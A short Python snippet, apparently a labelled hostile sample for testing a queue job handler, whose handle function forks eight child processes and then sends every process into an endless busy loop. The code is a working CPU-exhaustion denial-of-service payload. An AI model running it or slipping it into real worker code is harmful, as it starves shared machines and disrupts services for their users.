# Hostile: keeps every core busy, with eight more processes spinning beside it.
import os


def handle(ch, delivery, job, db, pause):
    for _ in range(8):
        if os.fork() == 0:
            break
    while True:
        pass
